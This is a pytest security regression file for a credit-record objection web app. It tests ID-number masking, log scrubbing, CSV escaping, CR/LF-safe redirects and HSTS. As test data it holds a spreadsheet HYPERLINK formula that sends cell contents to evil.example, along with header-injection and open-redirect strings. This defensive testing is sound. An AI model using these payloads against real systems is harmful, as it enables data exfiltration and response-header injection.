"""Issue 13's measured findings on input and output, replayed as an attacker would.

- A trailing space in a pushed decision number gave a 500, and its traceback (an IntegrityError
  with the row's parameters) wrote an identity number to the log.
- Identity numbers inside a record's facts were shown in full on the public page; a department
  read an applicant's statement with the numbers in it.
- A department named ``=HYPERLINK(...)`` reached ``sla.csv`` as a live formula.
- ``next=`` with CR/LF gave a 500 (werkzeug refuses the header) instead of a 400.
- No Strict-Transport-Security in production.
"""
from __future__ import annotations

import csv
import io
import logging
from datetime import datetime

import pytest
import sqlalchemy as sa
from sqlalchemy import func, select

from app import clock, create_app
from app.identifiers import complete_id_number
from app.models import CreditRecord
from app.models.enums import CaseKind, Role
from app.services.accounts.api_keys import create_key
from app.services.records import import_records
from app.web.access import public
from app.web.home import safe_next
from tests.factories import act, make_department, make_record, make_subject, make_user, submit, uscc
from tests.web.helpers import csrf_token, sign_in, text

NUMBER = complete_id_number("11010519800101001")
MASKED = NUMBER[:6] + "*" * 8 + NUMBER[-4:]
FACTS = f"法定代表人李四（身份证号{NUMBER}）未按期整改"
PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'


def _key(department=None):
    department = department or make_department()
    make_user(Role.DEPARTMENT, department=department)
    _k, token = create_key(department, "tests")
    return department, {"Authorization": f"Bearer {token}"}


def _item(**over):
    return {"identifier": uscc(), "subject_name": "加固测试公司", "category": "administrative_penalty",
            "severity": "general", "decision_number": "加固罚〔2026〕1号", "decision_date": "2026-06-01",
            "facts": FACTS, "sanction": "罚款", **over}


# ---------------------------------------------------------------------------------------
# The trailing space in an API decision number
# ---------------------------------------------------------------------------------------

def test_a_trailing_space_in_a_pushed_decision_number_names_the_same_record(client, db, frozen, caplog):
    """The push strips every field before checking it; the look-up of the records already provided
    used the raw text, missed the record and broke the unique key (a 500 with a traceback)."""
    department, headers = _key()
    item = _item()
    assert client.post("/api/v1/records", headers=headers, json={"records": [item]}).json["created"] == 1
    with caplog.at_level(logging.INFO):
        again = client.post("/api/v1/records", headers=headers,
                            json={"records": [dict(item, decision_number=item["decision_number"] + " ")]})
        changed = client.post("/api/v1/records", headers=headers, json={"records": [dict(
            item, decision_number="\u3000" + item["decision_number"] + "\t", sanction="罚款人民币一万元")]})
    assert again.status_code == 200 and again.json == {"created": 0, "updated": 0, "unchanged": 1}
    assert changed.status_code == 200 and changed.json == {"created": 0, "updated": 1, "unchanged": 0}
    assert db.session.scalar(select(func.count()).select_from(CreditRecord)
                             .where(CreditRecord.department_id == department.id)) == 1
    assert NUMBER not in caplog.text and "Traceback" not in caplog.text


def test_a_blank_decision_number_and_a_padded_bad_date_get_clear_field_errors(client, db, frozen):
    _department, headers = _key()
    refused = client.post("/api/v1/records", headers=headers,
                          json={"records": [_item(decision_number="   "), _item(decision_date=" 2026-13-01 ")]})
    assert refused.status_code == 422 and refused.mimetype == "application/problem+json"
    assert {(e["index"], e["field"]) for e in refused.json["errors"]} == {(0, "decision_number"), (1, "decision_date")}


def test_the_import_takes_a_padded_number_of_a_provided_record_for_that_record(db, frozen, tmp_path):
    """The CSV import strips its cells: a padded number is refused as already provided (a report
    row), not inserted beside the record."""
    department = make_department()
    make_record(department=department, decision_number="加固罚〔2026〕9号")
    path = tmp_path / "records.csv"
    path.write_text("identifier,subject_name,category,severity,decision_number,decision_date,facts,sanction\n"
                    f"{uscc()},加固公司,administrative_penalty,general, 加固罚〔2026〕9号\u3000,2026-06-01 ,事实,罚款\n",
                    encoding="utf-8")
    report = import_records(path, department)
    assert [(row, column) for row, column, _message in report.errors] == [(2, "decision_number")]
    assert report.imported == 0


@pytest.fixture
def raising_app(database_url, tmp_path):
    """An app with one view that fails with an IntegrityError carrying a number in its parameters."""
    app = create_app({"SQLALCHEMY_DATABASE_URI": database_url, "UPLOAD_DIR": str(tmp_path)})

    @app.route("/boom")
    @public
    def boom():
        raise sa.exc.IntegrityError("INSERT INTO subject (identifier) VALUES (?)", (NUMBER,),
                                    Exception("UNIQUE constraint failed: subject.identifier"))

    return app


def test_the_traceback_of_a_500_carries_no_identity_number(raising_app, caplog):
    with caplog.at_level(logging.ERROR):
        answer = raising_app.test_client().get("/boom")
    assert answer.status_code == 500
    assert "IntegrityError" in caplog.text and "Traceback" in caplog.text
    assert NUMBER not in caplog.text and MASKED in caplog.text


# ---------------------------------------------------------------------------------------
# Identity numbers in free text, for readers other than the subject and staff
# ---------------------------------------------------------------------------------------

def _public_query(client, identifier):
    return client.post("/query", data={"identifier": identifier, "person_name": "",
                                       "csrf_token": csrf_token(client, "/query")})


def test_the_public_page_masks_a_number_inside_the_facts(client, db):
    company = make_subject()
    make_record(subject=company, facts=FACTS, sanction=f"对{NUMBER}罚款")
    html = text(_public_query(client, company.identifier))
    assert "未按期整改" in html
    assert NUMBER not in html and html.count(MASKED) == 2


def test_a_signed_in_officer_sees_the_public_page_masked_too(client, db):
    company = make_subject()
    make_record(subject=company, facts=FACTS)
    sign_in(client, make_user(Role.OFFICER).username)
    assert NUMBER not in text(_public_query(client, company.identifier))


@pytest.fixture
def referred(db):
    """An objection whose statement names a person's number, referred to the record's department."""
    department = make_department()
    subject = make_subject()
    applicant, officer = make_user(Role.APPLICANT, subject=subject), make_user(Role.OFFICER)
    dept_user = make_user(Role.DEPARTMENT, department=department)
    record = make_record(subject=subject, department=department)  # its facts are the department's own text
    case = submit(applicant, CaseKind.OBJECTION, record, title=f"关于{NUMBER}的异议",
                  statement=f"本人身份证号{NUMBER}，记录有误")
    act(case, "accept", officer)
    act(case, "refer", officer, f"请核查{NUMBER}")
    return {"case": case, "department": department, "applicant": applicant, "officer": officer,
            "dept_user": dept_user}


def test_a_department_reads_the_applicants_words_masked(client, referred):
    sign_in(client, referred["dept_user"].username)
    page = text(client.get(f"/cases/{referred['case'].id}"))
    assert "记录有误" in page and NUMBER not in page and MASKED in page
    listing = text(client.get("/dept/referrals"))
    assert "的异议" in listing and NUMBER not in listing


def test_the_subjects_account_and_staff_read_them_in_full(client, referred):
    for user in (referred["applicant"], referred["officer"]):
        browser = client.application.test_client()
        sign_in(browser, user.username)
        assert f"本人身份证号{NUMBER}" in text(browser.get(f"/cases/{referred['case'].id}"))


def test_the_api_gives_a_department_the_statement_masked(client, referred):
    _k, token = create_key(referred["department"], "tests")
    answer = client.get("/api/v1/referrals", headers={"Authorization": f"Bearer {token}"})
    assert answer.status_code == 200
    [case] = answer.json["referrals"]
    assert case["statement"] == f"本人身份证号{MASKED}，记录有误" and NUMBER not in answer.get_data(as_text=True)


# ---------------------------------------------------------------------------------------
# CSV: the department named =HYPERLINK(...)
# ---------------------------------------------------------------------------------------

def test_a_department_named_like_a_formula_reaches_sla_csv_as_text(client, db):
    department = make_department(name=PAYLOAD)
    subject = make_subject()
    applicant, officer = make_user(Role.APPLICANT, subject=subject), make_user(Role.OFFICER)
    dept_user = make_user(Role.DEPARTMENT, department=department)
    with clock.frozen_clock(datetime(2026, 11, 2, 9, 0)) as frozen:
        case = submit(applicant, CaseKind.OBJECTION, make_record(subject=subject, department=department))
        frozen.set(datetime(2026, 11, 3, 9, 0))
        act(case, "accept", officer)
        act(case, "refer", officer)
        frozen.set(datetime(2026, 11, 5, 9, 0))
        act(case, "reply", dept_user, "经核查，记录无误", verification="correct")
        sign_in(client, make_user(Role.SUPERVISOR).username)
        export = client.get("/desk/dashboard/sla.csv?days=30")
    body = export.get_data(as_text=True)
    assert export.status_code == 200 and body.startswith("\ufeff")
    names = {r["认定单位"] for r in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    assert names == {"", "'" + PAYLOAD}


# ---------------------------------------------------------------------------------------
# next= with CR/LF, and HSTS
# ---------------------------------------------------------------------------------------

UNSAFE_NEXT = ["/%0d%0aSet-Cookie:%20x=1", "%0d%0aSet-Cookie:x", "/%0aX", "/%0D%0A", "/%0d", "/%09/evil.example",
               "/%E2%80%A8x", "/%C2%85x", "/ok%7f"]


@pytest.mark.parametrize("target", UNSAFE_NEXT)
def test_a_next_with_a_control_character_is_a_400(client, db, target):
    for path in (f"/auth/language/en?next={target}", f"/auth/sign-in?next={target}"):
        answer = client.get(path)
        assert answer.status_code == 400, path
        assert "Set-Cookie" not in answer.headers.get("Location", "") and "x=1" not in answer.headers.get("Set-Cookie", "")
        assert "控制字符" in text(answer)


def test_a_sign_in_posting_a_next_with_cr_lf_is_refused_before_anyone_signs_in(client, db):
    officer = make_user(Role.OFFICER)
    answer = sign_in(client, officer.username, next="/desk/\r\nSet-Cookie: x=1")
    assert answer.status_code == 400
    assert client.get("/desk/").status_code in (302, 401, 403)  # not signed in


def test_a_doubly_encoded_line_break_is_a_harmless_path():
    assert safe_next("/%0d%0aSet-Cookie:x") == "/%0d%0aSet-Cookie:x"  # the browser asks for that path: a 404


@pytest.mark.parametrize("target", ["/\r\nSet-Cookie: x", "/\n", "/\t/evil.example", "/a\u2028b", "/a\x85b", "/a\x00"])
def test_safe_next_never_returns_a_control_character(target):
    assert safe_next(target) is None


def test_safe_next_keeps_an_ordinary_path():
    assert safe_next("/desk/queues?state=accepted") == "/desk/queues?state=accepted"


@pytest.fixture
def environment(monkeypatch, tmp_path):
    """An app built from an environment's own settings, on a throw-away SQLite file."""
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'env.sqlite3'}")
    monkeypatch.setenv("SECRET_KEY", "s" * 40)
    monkeypatch.setenv("PUBLIC_BASE_URL", "https://casedesk.example")  # production requires it
    monkeypatch.setenv("UPLOAD_DIR", str(tmp_path / "uploads"))
    return create_app


def test_production_answers_with_hsts_for_a_year_and_subdomains(environment):
    answer = environment("production").test_client().get("/api/v1/", base_url="https://casedesk.example")
    hsts = answer.headers.get("Strict-Transport-Security", "")
    max_age = int(hsts.split("max-age=")[1].split(";")[0])
    assert max_age >= 365 * 24 * 3600 and "includeSubDomains" in hsts


def test_development_on_plain_http_sends_no_hsts(environment):
    answer = environment("development").test_client().get("/api/v1/")
    assert answer.status_code == 200 and "Strict-Transport-Security" not in answer.headers
